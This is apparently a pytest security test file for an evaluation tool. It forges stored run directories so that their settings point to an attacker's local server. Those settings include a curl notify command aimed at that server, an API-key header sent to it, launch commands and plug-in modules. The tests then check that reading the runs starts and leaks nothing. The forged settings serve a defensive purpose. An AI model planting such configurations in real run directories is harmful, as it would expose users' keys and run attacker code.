"""A run directory that somebody has forged who knows the code: all that it names is the attacker's. Who reads it
starts nothing, asks nobody and opens nothing that it names; who goes on with it does so by the configuration that is
given, and keys go where that one says."""

import json
import shutil
import sys
import threading
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from socketserver import BaseRequestHandler, ThreadingTCPServer
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml
from command_line import typed
from forging import forging
from live_runs import ENDED, Site, models_at
from test_reading_runs_no_code import CASES, REFUSED
from typer.testing import Result

from adaptive_eval.base.errors import ExitCode, StoreError
from adaptive_eval.config.prepare import stored_config
from adaptive_eval.report.reader import RunReader
from adaptive_eval.report.results_file import RESULTS_FILE

KEY = "sk-0123456789abcdef-of-the-reader"
WORDS = "some words of the reader"
CANARY = "canary"
"""In the name of each file, module, folder and data set of the attacker."""
SEEN: list[str] = []
WATCHING = threading.Event()


def _hear(event: str, arguments: tuple[Any, ...], watching: threading.Event = WATCHING) -> None:
    if not watching.is_set():  # also when the interpreter ends, and this module has lost its names
        return
    if event == "socket.connect" and not isinstance(arguments[1], str | bytes):
        SEEN.append(f"asks {arguments[1][1]}")
    elif event in ("open", "import", "subprocess.Popen", "socket.getaddrinfo") and CANARY in str(arguments):
        SEEN.append(f"{event} {arguments}")


@pytest.fixture(scope="module")
def audit() -> None:
    """From now on it is heard what is opened, imported, started and asked; nothing takes such a hook away."""
    sys.addaudithook(_hear)


@dataclass
class Evil:
    """A server of the attacker's, which keeps all that it is sent."""

    url: str = ""
    got: list[bytes] = field(default_factory=list)


@pytest.fixture
def evil() -> Iterator[Evil]:
    listener = Evil()

    class Handler(BaseRequestHandler):
        def handle(self) -> None:
            listener.got.append(self.request.recv(65536))

    with ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        serving = threading.Thread(target=server.serve_forever)
        serving.start()
        listener.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
        yield listener
        server.shutdown()
        serving.join()


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, base_url: str) -> Path:
    """A run that has ended, one that caps have stopped, and the configuration of both, which has the key sent."""
    site = Site.make(tmp_path_factory.mktemp("made"), base_url)
    models = models_at(base_url, api_key_env="MY_KEY")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MY_KEY", KEY)
        for name, budget in (("RUN", {}), ("OPEN", {"budget": {"trials": 100}})):
            config = site.write("NEW", models=models, trials={"min": 4, "max": 8}, **budget)
            assert site.run(config, "--run-dir", str(site.folder / name)).exit_code in ENDED
    plain = site.config(models=models, trials={"min": 4, "max": 8})
    for name in ("NEW.yaml", "PLAIN.yaml"):
        (site.folder / name).write_text(yaml.safe_dump(plain | {"name": "run"}))
    return site.folder


Settings = Mapping[str, Any]


def forge(run: Path, changes: Settings, models: Sequence[Settings], grader: str | None = None) -> None:
    """Write the attacker's settings over the stored ones, as it would itself."""
    with forging(run) as database:
        ((body,),) = database.execute("SELECT body FROM configurations")
        stored = json.loads(body)
        for model, forged in zip(stored["models"], models, strict=True):
            model.update(forged)
            model["prompt"]["system"] = "${MY_WORDS}"  # is filled in where the reader's own configuration has it
        database.execute("UPDATE configurations SET body = ?", (json.dumps(stored | changes),))
        if grader is not None:
            ((body,),) = database.execute("SELECT value FROM run WHERE key = 'meaning'")
            meaning = json.loads(body) | {"grader": {"kind": grader}}
            database.execute("UPDATE run SET value = ? WHERE key = 'meaning'", (json.dumps(meaning),))
    with RunReader.intact(run) as reader:
        stored_config(reader.header())


FORGERIES = ("servers", "code", "files", "places")


def forgery(name: str, url: str, folder: Path) -> tuple[Settings, Sequence[Settings]]:
    """Settings of the run, and of each model."""
    canary = str(folder / CANARY)
    served = {"base_url": url, "api_key_env": "MY_KEY", "headers": {"X-Key": "${MY_KEY}"}}
    judge = {"kind": "judge", "server": {"base_url": url, "model": "judge", "api_key_env": "MY_KEY"}}
    started = {"launch": {"command": ["touch", f"{canary}/ran", "{port}"]}}
    match name:
        case "servers":
            panel = [judge["server"] | {"model": f"judge {at}"} for at in (1, 2, 3)]
            changes = {"grader": judge | {"server": panel}, "notify": ["curl", "--fail", url]}
            return changes, [served, served | {"client": "openai"}, served]
        case "code":
            rules = {"stopping": {"rule": f"{CANARY}:Rule"}, "objective": {"kind": f"{CANARY}:Objective"}}
            grader = {"kind": "python", "function": f"{CANARY}:grade"}
            notify = ["touch", f"{canary}/ran"]
            changes = {"grader": grader, "notify": notify, "questions": {"function": f"{CANARY}:rows"}, **rules}
            return changes | {"folder": canary}, [started, {"auth": f"{CANARY}:sign"}, {}]
        case "files":
            fit = {"completion_tokens": {"below": "p33"}}
            categories = [{"name": "short", "weight": 1, "when": fit}, {"name": "other", "weight": 0}]
            rubric = {"categories": categories, "thresholds": {"from": canary}}
            changes = {"questions": {"path": f"{canary}/q.jsonl"}, "prior": {"run": canary}, "rubric": rubric}
            return changes | {"folder": canary}, [{}] * 3
        case _:
            grader = {"kind": "verifier", "server": judge["server"]}
            changes = {"store": canary, "grader": grader}
            return changes | {"questions": {"dataset": f"{CANARY}/data"}, "pool": 2}, [started] * 3


PLUG_IN = """
from pathlib import Path
Path(__file__).with_name("ran").touch()
"""


@pytest.fixture
def workdir(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, audit: None) -> Iterator[Path]:
    """The user's folder, where Python finds the attacker's modules; the runs in it are as they were made."""
    folder = Path(shutil.copytree(made, tmp_path / "here"))
    (folder / CANARY).mkdir()
    for place in (folder, folder / CANARY):
        (place / f"{CANARY}.py").write_text(PLUG_IN)
    (folder / CANARY / "q.jsonl").write_text("{}")
    (folder / "RUBRIC.yaml").write_text("rubric: exact_match\n")
    monkeypatch.chdir(folder)
    monkeypatch.setattr(sys, "path", [str(folder), *sys.path])
    monkeypatch.setenv("MY_KEY", KEY)
    monkeypatch.setenv("MY_WORDS", WORDS)
    SEEN.clear()
    yield folder
    assert not list(folder.rglob("ran")), "the attacker's code ran"


def command(line: str) -> Result:
    """A command of the user's, which is watched."""
    WATCHING.set()
    try:
        return typed(*line.split())
    finally:
        WATCHING.clear()


APART = "run"
"""They look into the user's folder, too."""
READING = [line for name, lines in CASES.items() for line in lines or () if "RUN" in line and name != APART]
QUICK = (
    "report RUN --format json",
    "monitor RUN --once",
    "regrade RUN --config PLAIN.yaml",
    "verify RUN",
    "rescore RUN",
    "label RUN --show",
)


@pytest.mark.parametrize("full", [False, pytest.param(True, marks=pytest.mark.slow)])
@pytest.mark.parametrize(("name", "run"), [*((name, "RUN") for name in FORGERIES), ("servers", "OPEN")])
def test_a_forged_run_starts_and_sends_nothing(workdir: Path, evil: Evil, name: str, run: str, full: bool) -> None:
    forge(workdir / run, *forgery(name, evil.url, workdir))
    run = shutil.move(workdir / run, workdir / "FORGED").name
    shutil.copytree("FORGED", "COPY")
    for line in READING:
        if full != (line in QUICK):  # the others are long
            done = command(line.replace("RUN", run, 1).replace("--output OUT", "--output OUT --force"))
            assert done.exit_code != ExitCode.CONFIGURATION or line in REFUSED or line not in QUICK, (line, done.stderr)
            assert SEEN == [] and evil.got == [], line
            shown = [done.output, *(report.read_text() for report in (workdir / "FORGED").glob("report.*"))]
            for place in (workdir / "REPLAY", workdir / "OUT", workdir / "IMPORTED"):
                shown += [place.read_bytes().decode("latin-1")] if place.is_file() else []
                shutil.rmtree(place) if place.is_dir() else place.unlink(missing_ok=True)
            assert not [text for text in shown if KEY in text or WORDS in text], line
    command(f"validate {CANARY}/q.yaml")
    assert SEEN, "it would have been heard"


def test_graders_of_benchmarks_that_the_run_does_not_have_are_damage(workdir: Path) -> None:
    with pytest.raises(StoreError, match="the stored configuration is damaged"):
        forge(workdir / "RUN", {"grader": {"kind": "by_benchmark", "graders": {"x": {"kind": "exact"}}}}, [{}] * 3)
    done = command("report RUN --format md")
    assert done.exit_code == ExitCode.FAILED and "the stored configuration is damaged" in done.stderr


@pytest.mark.parametrize("timeout", [float("nan"), float("inf")])
def test_numbers_that_json_does_not_have_are_damage(workdir: Path, timeout: float) -> None:
    with pytest.raises(StoreError, match="the stored configuration is damaged"):
        forge(workdir / "RUN", {}, [{"sampling": {"timeout": timeout}}] * 3)
    done = command("report RUN --format md")
    assert done.exit_code == ExitCode.FAILED and "the stored configuration is damaged" in done.stderr


@pytest.mark.parametrize("name", FORGERIES)
def test_a_resumed_forged_run_asks_the_configured_servers(workdir: Path, evil: Evil, base_url: str, name: str) -> None:
    forge(workdir / "OPEN", *forgery(name, evil.url, workdir))
    done = command("run NEW.yaml --run-dir OPEN --display plain")
    assert done.exit_code in ENDED, done.stderr
    assert set(SEEN) <= {f"asks {urlsplit(base_url).port}"} and evil.got == []
    assert json.loads((workdir / "OPEN" / RESULTS_FILE).read_bytes())["pairs"]


def test_a_forged_meaning_is_refused(workdir: Path, evil: Evil) -> None:
    forge(workdir / "OPEN", *forgery("servers", evil.url, workdir), grader="exact")
    done = command("run NEW.yaml --run-dir OPEN --display plain")
    assert done.exit_code == ExitCode.CONFIGURATION and "grader.kind: 'exact' → 'numeric'" in done.stderr
    assert SEEN == []
